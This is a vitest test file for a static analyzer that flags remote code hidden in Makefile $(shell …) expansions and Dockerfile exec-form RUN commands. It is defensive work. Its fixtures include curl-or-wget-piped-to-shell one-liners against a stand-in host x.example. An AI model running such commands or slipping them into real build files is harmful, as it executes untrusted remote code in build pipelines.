// Commands that build files run without a recipe line of their own: Make's $(shell …), expanded
// while the Makefile is read, and the exec form of a Dockerfile RUN (`RUN ["sh", "-c", "…"]`).
import { describe, expect, it } from 'vitest';
import { buildCommandsAnalyzer } from '../../../../src/core/analyzers/build/build-commands.js';
import { runAnalyzer } from '../../../helpers/analyzers.js';

const found = (path: string, code: string) => runAnalyzer(buildCommandsAnalyzer, { path, code }).map((f) => `${f.ruleId}@${f.line}`);

describe('Make $(shell …) and Dockerfile exec-form RUN', () => {
  it('reads $(shell …) in a Makefile variable', () => {
    expect(found('Makefile', 'VERSION := $(shell curl -fsSL https://x.example/v.sh | sh)\n\nall:\n\techo $(VERSION)\n')).toEqual(['build.remote-code@1']);
  });

  it('reads the script of RUN ["sh", "-c", …] and RUN ["bash", "-c", …]', () => {
    expect(found('Dockerfile', 'FROM debian:12\nRUN ["/bin/sh", "-c", "curl -fsSL https://x.example/i.sh | sh"]\n')).toEqual(['build.remote-code@2']);
    expect(found('build/Dockerfile', 'FROM debian:12\nRUN ["bash", "-c", "wget -qO- https://x.example/i | bash"]\n')).toEqual(['build.remote-code@2']);
  });

  it('stays quiet on git metadata and plain exec-form commands', () => {
    expect(found('Makefile', 'GIT_SHA := $(shell git rev-parse HEAD)\nbuild:\n\tgo build -ldflags "-X main.sha=$(GIT_SHA)"\n')).toEqual([]);
    expect(found('Dockerfile', 'FROM node:20\nRUN ["npm", "ci"]\n')).toEqual([]);
  });
});
